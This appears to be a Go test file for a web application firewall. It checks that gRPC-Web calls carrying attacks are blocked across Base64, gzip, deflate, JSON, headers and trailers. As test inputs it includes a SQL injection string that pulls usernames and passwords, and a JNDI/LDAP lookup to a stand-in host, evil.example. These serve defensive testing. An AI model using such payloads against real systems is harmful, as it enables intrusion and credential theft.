package wire

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/wafer-waf/wafer/test/tier"
)

// grpcMessage spells a message of gRPC with its prefix.
func grpcMessage(flags byte, payload string) string {
	return string(binary.BigEndian.AppendUint32([]byte{flags}, uint32(len(payload)))) + payload
}

// protoField spells a field of a protocol buffer that has a length.
func protoField(number int, value string) string {
	b := binary.AppendUvarint(nil, uint64(number)<<3|2)
	return string(binary.AppendUvarint(b, uint64(len(value)))) + value
}

func gzipped(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = io.WriteString(w, s) // into memory
	_ = w.Close()
	return b.String()
}

func deflated(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = io.WriteString(w, s)
	_ = w.Close()
	return b.String()
}

func text64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// grpcEnd is the end of a call as gRPC-Web has it in the body.
func grpcEnd(status, more string) string {
	return grpcMessage(0x80, "grpc-status: "+status+"\r\n"+more)
}

// callWeb spells a request of gRPC-Web.
func callWeb(host, mediaType, fields, body string) string {
	return fmt.Sprintf("POST /shop.Orders/Create HTTP/1.1\r\nHost: %s\r\nUser-Agent: test\r\nAccept: */*\r\nContent-Type: %s\r\nX-Grpc-Web: 1\r\n%sContent-Length: %d\r\n\r\n%s",
		host, mediaType, fields, len(body), body)
}

const (
	sqlAttack   = "1' UNION SELECT username, password FROM users -- "
	webProto    = "application/grpc-web+proto"
	webText     = "application/grpc-web-text+proto"
	leakedError = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"
)

func TestGRPCWeb(t *testing.T) {
	t.Parallel()
	back := newBackend(t, func(c *peer, m message) bool {
		mediaType := m.get("Content-Type")[0]
		answer := grpcMessage(0, protoField(1, "thank you"))
		if strings.Contains(mediaType, "web") {
			answer += grpcEnd("0", "")
		}
		head := ""
		switch say := m.get("X-Say"); {
		case len(say) == 0:
		case say[0] == "leak":
			answer = grpcMessage(0, protoField(1, "fine")) + grpcMessage(0, protoField(2, protoField(1, leakedError))) + grpcEnd("0", "")
		case say[0] == "compressed leak":
			head = "grpc-encoding: gzip\r\n"
			answer = grpcMessage(1, gzipped(protoField(1, leakedError))) + grpcEnd("0", "")
		case say[0] == "leak in the end":
			answer = grpcMessage(0, protoField(1, "fine")) + grpcEnd("2", "grpc-message: "+strings.ReplaceAll(leakedError, " ", "%20")+"\r\n")
		case say[0] == "leak in the head":
			head, answer = "grpc-status: 2\r\ngrpc-message: "+leakedError+"\r\n", ""
		case say[0] == "nonsense":
			answer = "\x07 no message"
		case say[0] == "large":
			answer = strings.Repeat(grpcMessage(0, protoField(1, strings.Repeat("all is well. ", 300))), 5) + grpcEnd("0", "")
		}
		if strings.Contains(mediaType, "text") {
			answer = text64(answer)
		}
		_, err := fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: %s\r\n%sContent-Length: %d\r\n\r\n%s", mediaType, head, len(answer), answer)
		return err == nil
	})
	w := tier.Start(t, tier.RouteFile(t, fmt.Sprintf(`
routes:
  - { id: block, hosts: [block.test], policy: block, upstreams: [{ id: b }] }
  - { id: detect, hosts: [detect.test], policy: detect, upstreams: [{ id: b }] }
  - { id: prefix, hosts: [prefix.test], policy: prefix, upstreams: [{ id: b }] }
  - { id: lenient, hosts: [lenient.test], policy: lenient, upstreams: [{ id: b }] }
  - { id: unread, hosts: [unread.test], policy: "off", upstreams: [{ id: b }] }
upstreams:
  - { id: b, endpoints: ["%s"] }
policies:
  - { id: block, request_body: { limit: 16KiB }, response_body: { inspect: true } }
  - { id: detect, mode: detect, inherits: block }
  - { id: prefix, inherits: block, request_body: { oversize: inspect_prefix } }
  - { id: lenient, inherits: block, request_body: { oversize: skip_inspection, undecodable: skip_inspection } }
  - { id: "off", mode: "off" }
`, back.url())))

	passes := func(name, host, mediaType, fields, body, coverage, reason string) {
		t.Run("passes/"+name, func(t *testing.T) {
			before := back.count()
			r := ask(t, w.Addr, callWeb(host, mediaType, fields, body))
			want := grpcMessage(0, protoField(1, "thank you"))
			if strings.Contains(mediaType, "web") {
				want += grpcEnd("0", "")
			}
			got := r.body
			if mediaType == webText {
				got = decode64(t, got)
			}
			if r.status != 200 || got != want || r.header.Get("Grpc-Status") != "" {
				t.Errorf("answer %d %v %q", r.status, r.header, r.body)
			}
			if seen := back.seen(before); len(seen) != 1 || seen[0].body != body {
				t.Errorf("the backend saw %+v", seen)
			}
			event := map[string]any{"status": 200.0, "verdict": "pass", "coverage": coverage}
			if strings.Contains(mediaType, "web") && host != "unread.test" {
				event["grpc_status"] = "0"
			}
			if reason != "" {
				event["coverage_reason"] = reason
			}
			wantEvent(t, w.Access(r.id), event)
		})
	}
	ordinary := protoField(1, "two words") + "\x10\x96\x01" + protoField(3, protoField(1, "Ann O'Neill")+protoField(2, "Main St. 5"))
	passes("one message", "block.test", webProto, "", grpcMessage(0, ordinary), "full", "")
	passes("no message", "block.test", webProto, "", "", "full", "")
	passes("an empty message", "block.test", webProto, "", grpcMessage(0, ""), "full", "")
	passes("several", "block.test", webProto, "", strings.Repeat(grpcMessage(0, ordinary), 3), "full", "")
	passes("text", "block.test", webText, "", text64(grpcMessage(0, ordinary)), "full", "")
	passes("gzip", "block.test", webProto, "grpc-encoding: gzip\r\n", grpcMessage(1, gzipped(ordinary)), "full", "")
	passes("an encoding that is not used", "block.test", webProto, "grpc-encoding: snappy\r\n", grpcMessage(0, ordinary), "full", "")
	passes("gRPC itself", "block.test", "application/grpc", "te: trailers\r\n", grpcMessage(0, ordinary), "full", "")
	passes("a long message, of which the beginning is inspected", "prefix.test", webProto, "", grpcMessage(0, protoField(1, strings.Repeat("lorem ipsum ", 3000))), "partial", "oversize")
	passes("a long message that is not inspected", "lenient.test", webProto, "", grpcMessage(0, protoField(1, strings.Repeat("lorem ipsum ", 3000)))+grpcMessage(0, ordinary), "headers", "oversize")
	passes("an unknown encoding that is let through", "lenient.test", webProto, "grpc-encoding: snappy\r\n", grpcMessage(1, "whatever"), "headers", "encoding")
	passes("a policy that is off", "unread.test", webProto, "", grpcMessage(0, protoField(1, sqlAttack)), "none", "policy_off")

	stops := func(name, host, mediaType, fields, body, code string, event map[string]any) {
		t.Run("stops/"+name, func(t *testing.T) {
			before := back.count()
			r := ask(t, w.Addr, callWeb(host, mediaType, fields, body))
			if r.status != 200 || r.header.Get("Grpc-Status") != code || r.body != "" || r.header.Get("Content-Type") != mediaType ||
				!strings.HasSuffix(r.header.Get("Grpc-Message"), ", request id "+r.id) {
				t.Errorf("answer %d %v %q, want status %s", r.status, r.header, r.body, code)
			}
			for _, m := range back.seen(before) {
				if m.err == nil {
					t.Errorf("the backend saw %q", m.raw)
				}
			}
			wantEvent(t, w.Access(r.id), event)
			if event["verdict"] == "block" {
				wantEvent(t, w.Security(r.id), map[string]any{"verdict": "block", "rule_id": 949110.0})
			}
		})
	}
	blocked := map[string]any{"verdict": "block", "status": 200.0}
	attack := protoField(2, protoField(7, sqlAttack))
	stops("an attack", "block.test", webProto, "", grpcMessage(0, attack), "7", blocked)
	stops("in Base64", "block.test", webText, "", text64(grpcMessage(0, attack)), "7", blocked)
	stops("in several texts of Base64", "block.test", webText, "", text64(grpcMessage(0, attack)[:7])+text64(grpcMessage(0, attack)[7:]), "7", blocked)
	stops("in gzip", "block.test", webProto, "grpc-encoding: gzip\r\n", grpcMessage(1, gzipped(attack)), "7", blocked)
	stops("in deflate", "block.test", webProto, "grpc-encoding: deflate\r\n", grpcMessage(1, deflated(attack)), "7", blocked)
	stops("in the second message", "block.test", webProto, "", grpcMessage(0, ordinary)+grpcMessage(0, attack), "7", blocked)
	stops("behind an empty one", "block.test", webProto, "", grpcMessage(0, "")+grpcMessage(0, attack), "7", blocked)
	stops("in JSON", "block.test", "application/grpc-web+json", "", grpcMessage(0, `{"q":{"a":["`+sqlAttack+`"]}}`), "7", blocked)
	stops("in the head", "block.test", webProto, "x-note: ${jndi:ldap://evil.example/a}\r\n", grpcMessage(0, ordinary), "7", blocked)
	stops("in the head, in Base64", "block.test", webProto, "x-note-bin: "+text64("${jndi:ldap://evil.example/a}")+"\r\n", grpcMessage(0, ordinary), "7", blocked)
	stops("in trailers", "block.test", webProto, "", grpcMessage(0, ordinary)+grpcMessage(0x80, "x-note: ${jndi:ldap://evil.example/a}\r\n"), "7", blocked)
	stops("too long", "block.test", webProto, "", grpcMessage(0, strings.Repeat("a", 17<<10)), "8", map[string]any{"verdict": "refused", "error": "inspection_limit"})
	stops("a length that nobody could send", "block.test", webProto, "", "\x00\xff\xff\xff\xff", "8", map[string]any{"verdict": "refused", "error": "inspection_limit"})
	stops("an unknown encoding", "block.test", webProto, "grpc-encoding: snappy\r\n", grpcMessage(1, "whatever"), "12", map[string]any{"verdict": "refused", "error": "content_coding"})
	stops("two encodings", "block.test", webProto, "grpc-encoding: gzip, gzip\r\n", grpcMessage(1, gzipped(gzipped(attack))), "12", map[string]any{"verdict": "refused", "error": "content_coding"})
	stops("compressed in no encoding", "block.test", webProto, "", grpcMessage(1, gzipped(attack)), "12", map[string]any{"verdict": "refused", "error": "content_coding"})
	framing := map[string]any{"verdict": "refused", "error": "grpc_framing"}
	stops("no messages", "block.test", webProto, "", "q=1&r=2", "13", framing)
	stops("a message that is cut", "block.test", webProto, "", grpcMessage(0, ordinary)+"\x00\x00", "13", framing)
	stops("unknown flags", "block.test", webProto, "", grpcMessage(4, ordinary), "13", framing)
	stops("no Base64", "block.test", webText, "", text64(grpcMessage(0, ordinary))+"!", "13", framing)
	stops("a message behind trailers", "block.test", webProto, "", grpcMessage(0x80, "a: b\r\n")+grpcMessage(0, attack), "13", framing)
	stops("trailers where there are none", "block.test", "application/grpc", "", grpcMessage(0x80, "a: b\r\n"), "13", framing)
	stops("no route", "nowhere.test", webProto, "", grpcMessage(0, ordinary), "12", map[string]any{"verdict": "refused", "error": "no_route"})

	t.Run("answers that are stopped end with a status", func(t *testing.T) {
		for say, want := range map[string]string{
			"leak": grpcMessage(0, protoField(1, "fine")), "compressed leak": "", "leak in the end": grpcMessage(0, protoField(1, "fine")), "nonsense": "",
		} {
			for _, mediaType := range []string{webProto, webText} {
				r := ask(t, w.Addr, callWeb("block.test", mediaType, "X-Say: "+say+"\r\n", callBody(mediaType, ordinary)))
				got := r.body
				if mediaType == webText {
					got = decode64(t, got)
				}
				code, verdict, word := "7", "block", ""
				if say == "nonsense" {
					code, verdict, word = "14", "refused", "malformed"
				}
				rest, ok := strings.CutPrefix(got, want+"\x80\x00\x00\x00")
				if r.status != 200 || !ok || !strings.Contains(rest, "grpc-status: "+code+"\r\ngrpc-message: ") || !strings.HasSuffix(rest, ", request id "+r.id+"\r\n") {
					t.Errorf("%s, %s: %d %q", say, mediaType, r.status, got)
				}
				event := map[string]any{"verdict": verdict, "status": 200.0, "grpc_status": code}
				if word != "" {
					event["error"] = word
				}
				wantEvent(t, w.Access(r.id), event)
			}
		}
		r := ask(t, w.Addr, callWeb("block.test", webProto, "X-Say: leak in the head\r\n", grpcMessage(0, ordinary)))
		if r.header.Get("Grpc-Status") != "7" || strings.Contains(r.head, "SQL") {
			t.Errorf("%q", r.head)
		}
		// Of gRPC itself the trailers cannot be said in HTTP/1: a short answer is replaced.
		r = ask(t, w.Addr, callWeb("block.test", "application/grpc", "X-Say: compressed leak\r\n", grpcMessage(0, ordinary)))
		if r.header.Get("Grpc-Status") != "7" || r.body != "" {
			t.Errorf("%q %q", r.head, r.body)
		}
	})
	t.Run("long answers pass", func(t *testing.T) {
		for _, mediaType := range []string{webProto, webText} {
			r := ask(t, w.Addr, callWeb("block.test", mediaType, "X-Say: large\r\n", callBody(mediaType, ordinary)))
			got := r.body
			if mediaType == webText {
				got = decode64(t, got)
			}
			if want := strings.Repeat(grpcMessage(0, protoField(1, strings.Repeat("all is well. ", 300))), 5) + grpcEnd("0", ""); got != want {
				t.Errorf("%s: %d bytes, want %d", mediaType, len(got), len(want))
			}
		}
	})
	t.Run("who detects refuses nothing", func(t *testing.T) {
		for _, body := range []string{
			grpcMessage(0, attack), grpcMessage(0, ordinary) + grpcMessage(0, attack), grpcMessage(0, strings.Repeat("a", 17<<10)), "q=1&r=2", grpcMessage(0, ordinary) + "\x00\x00",
		} {
			before := back.count()
			r := ask(t, w.Addr, callWeb("detect.test", webProto, "X-Say: leak\r\n", body))
			if !strings.Contains(r.body, leakedError) || r.header.Get("Grpc-Status") != "" {
				t.Errorf("%.50q: %q %q", body, r.head, r.body)
			}
			if seen := back.seen(before); len(seen) != 1 || seen[0].body != body {
				t.Errorf("%.50q: the backend saw %+v", body, seen)
			}
			wantEvent(t, w.Access(r.id), map[string]any{"verdict": "would_block", "status": 200.0})
		}
	})
	if n := w.Metric(`wafer_grpc_messages_total{direction="request",route="block",verdict="block"}`); n < 8 {
		t.Errorf("%v blocked messages were counted", n)
	}
	if n := w.Metric(`wafer_grpc_messages_total{direction="response",route="block",verdict="block"}`); n < 4 {
		t.Errorf("%v blocked messages of answers were counted", n)
	}
}

func callBody(mediaType, message string) string {
	if mediaType == webText {
		return text64(grpcMessage(0, message))
	}
	return grpcMessage(0, message)
}

// decode64 decodes texts of Base64 that follow one another.
func decode64(t *testing.T, s string) (out string) {
	t.Helper()
	for len(s) >= 4 {
		b, err := base64.StdEncoding.DecodeString(s[:4])
		if err != nil {
			t.Errorf("%q: %v", s, err)
			return ""
		}
		out, s = out+string(b), s[4:]
	}
	return out
}

func TestGRPCTimeout(t *testing.T) {
	t.Parallel()
	back := newBackend(t, func(c *peer, _ message) bool {
		_, _ = c.br.ReadByte() // until the tier gives up
		return false
	})
	w := tier.Start(t, tier.RouteFile(t, fmt.Sprintf(`
routes: [{ id: r, upstreams: [{ id: b }] }]
upstreams: [{ id: b, endpoints: ["%s"] }]
`, back.url())))
	r := ask(t, w.Addr, callWeb("a.test", webProto, "grpc-timeout: 50m\r\n", grpcMessage(0, protoField(1, "hello"))))
	if r.status != 200 || r.header.Get("Grpc-Status") != "4" {
		t.Errorf("%q", r.head)
	}
	wantEvent(t, w.Access(r.id), map[string]any{"error": "request_timeout"})
}
